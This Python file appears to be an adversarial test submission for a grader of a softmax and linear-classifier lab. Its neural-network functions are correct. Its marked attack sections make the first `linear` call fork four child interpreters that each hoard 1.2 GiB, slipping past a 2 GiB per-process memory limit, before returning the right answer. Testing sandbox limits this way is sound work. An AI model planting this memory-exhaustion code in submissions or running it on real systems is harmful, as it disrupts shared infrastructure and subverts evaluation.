"""Attack: The first call of linear in each worker forks 4 children that each
allocate 1.2 GiB (a bytearray, every page written) and then sleep (up to 30 s,
or until the worker is gone): 4.8 GiB for a submission whose limit is 2 GiB.
Each child execs a small fresh interpreter to do it, so that a per-process
limit sized for torch does not stop it. linear waits until every child
holds its memory or has died (however long that takes: the call's own time
limit is the only bound), keeps them holding for 0.5 s more, then returns the
right answer. Every other function is right.

Built on reference/softmax_lab.py; only the marked parts differ.
"""

import os
import sys
import time
import torch

# --- attack: runs in linear --------------------------------------------
MARK = "gradecheck-attack-memory"
CHILDREN = 4
HOLDER = r"""
import os, sys, time
fd = int(sys.argv[2])
size = int(1.2 * 2**30)
try:
    hoard = bytearray(size)
    hoard[::4096] = b"\x01" * len(range(0, size, 4096))  # write every page
except MemoryError:
    os._exit(3)
os.write(fd, b"1")
os.close(fd)
parent = os.getppid()
end = time.monotonic() + 30
while time.monotonic() < end and os.getppid() == parent:
    time.sleep(0.2)
"""
_STARTED = []


def _hoard():
    read_end, write_end = os.pipe()
    started = 0
    for _ in range(CHILDREN):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.close(read_end)
                os.set_inheritable(write_end, True)
                os.execv(sys.executable, [sys.executable, "-S", "-c", HOLDER, MARK, str(write_end)])
            finally:
                os._exit(4)
        started += 1
    os.close(write_end)
    held = 0
    while True:
        data = os.read(read_end, 16)
        if not data:  # every child wrote or died
            break
        held += len(data)
    os.close(read_end)
    print(f"gradecheck-attack memory: {held} of {started} children hold 1.2 GiB each", flush=True)
    time.sleep(0.5)  # all of it held during the call
# --- end of attack -----------------------------------------------------


def softmax(a):
    """Return the softmax over all entries of `a`, same shape; stable for huge logits."""
    shifted = a - a.max()
    exps = torch.exp(shifted)
    return exps / exps.sum()


def linear(x, weight, bias):
    """Return weight @ x + bias: (C, D) @ (D, 1) + (C, 1) -> (C, 1)."""
    return torch.mm(weight, x) + bias


def loss(label, predictions):
    """Return the negative log-likelihood -log(predictions[label]) as a one-value tensor."""
    return -torch.log(predictions[label])


def loss_softmax_backward(label, predictions):
    """Return dloss/da = predictions - onehot(label), where predictions = softmax(a)."""
    grad = predictions.clone()
    grad[label] -= 1
    return grad


def linear_backward(x, weight, bias, gradOutput):
    """Return (gradWeight, gradBias) given gradOutput = dloss/d(weight @ x + bias)."""
    gradWeight = torch.mm(gradOutput, x.t())
    gradBias = gradOutput.clone()
    return gradWeight, gradBias


def loss_backward(label, predictions):
    """Return dloss/dpredictions for loss = -log(predictions[label]), same shape."""
    grad = torch.zeros_like(predictions)
    grad[label] = -1.0 / predictions[label]
    return grad


def softmax_backward(inputTensor, gradOutput):
    """Return dloss/da given gradOutput = dloss/dy and y = softmax(inputTensor), same shape.

    This is the Jacobian-vector product J^T g with J = diag(y) - y y^T, which
    simplifies to y * (g - <y, g>).
    """
    y = softmax(inputTensor)
    return y * (gradOutput - (y * gradOutput).sum())


def color_histogram(img, bins):
    """Return the (3 * bins,) colour histogram of a (3, H, W) image with values in [0, 1].

    For R, G and B in that order, each block holds the fraction of the
    channel's pixels in each of `bins` equal-width bins over [0, 1]; the value
    1.0 falls in the last bin, so every block sums to one.
    """
    blocks = []
    for channel in img:
        values = channel.reshape(-1)
        index = torch.clamp((values * bins).long(), 0, bins - 1)
        counts = torch.bincount(index, minlength=bins).to(img.dtype)
        blocks.append(counts / values.numel())
    return torch.cat(blocks)


def max_margin_loss(label, scores, delta):
    """Return the multiclass hinge loss: sum over j != label of max(0, s_j - s_label + delta)."""
    margins = torch.clamp(scores - scores[label] + delta, min=0)
    margins[label] = 0
    return margins.sum()


def max_margin_loss_backward(label, scores, delta):
    """Return the gradient of max_margin_loss with respect to scores, same shape."""
    active = (scores - scores[label] + delta > 0).to(scores.dtype)
    active[label] = 0
    grad = active.clone()
    grad[label] = -active.sum()
    return grad


# --- attack: replaces reference functions -------------------------------
_linear = linear


def linear(x, weight, bias):
    """Right, after the first call in each worker forked the memory hoarders."""
    if not _STARTED:
        _STARTED.append(os.getpid())
        _hoard()
    return _linear(x, weight, bias)
